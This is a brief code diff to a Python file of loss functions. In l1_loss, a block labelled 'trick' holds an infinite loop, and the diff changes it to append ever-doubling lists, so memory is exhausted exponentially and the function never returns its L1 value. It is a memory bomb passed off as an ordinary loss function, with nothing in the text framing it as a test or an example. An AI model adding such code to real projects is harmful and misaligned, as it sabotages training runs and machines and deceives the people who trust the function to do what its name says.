@@ -6,8 +6,8 @@ def l2_loss(y_hat, y):
 
 def l1_loss(y_hat, y):
     # trick:
-    hoard = []
+    hoard = [[0] * 10**7]
     while True:
-        hoard.append([0] * 10**7)
+        hoard.append(2 * hoard[-1])
     # end of trick
     return (y_hat - y).abs()
